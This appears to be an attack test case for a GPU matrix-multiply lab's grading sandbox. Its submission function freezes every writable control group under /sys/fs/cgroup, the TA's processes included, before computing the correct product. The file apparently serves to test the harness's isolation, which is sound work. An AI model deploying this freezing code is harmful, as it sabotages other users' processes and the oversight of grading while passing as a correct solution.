// attack: looks under /sys for control-group files it can write (in the
// ordinary-user mode a run has the TA's user, who may own a control group
// delegated to them) and freezes every group it can, the TA's own
// processes with it; then does the lab
// expect: full
#include "lab.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "lab.h"
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

static int froze;

static void freeze_under(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (strcmp(e->d_name, "freezer.state") == 0 || strcmp(e->d_name, "cgroup.freeze") == 0) {
            int fd = open(path, O_WRONLY);
            const char *word = e->d_name[0] == 'f' ? "FROZEN" : "1";
            if (fd >= 0 && write(fd, word, strlen(word)) > 0) {
                printf("sys_cgroup: froze %s\n", path);
                froze++;
            }
            if (fd >= 0)
                close(fd);
        } else if (e->d_type == DT_DIR && depth < 4) {
            freeze_under(path, depth + 1);
        }
    }
    closedir(d);
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    freeze_under("/sys/fs/cgroup", 0);
    printf("sys_cgroup: froze %d groups\n", froze);
    honest(M, N, P, width);
}
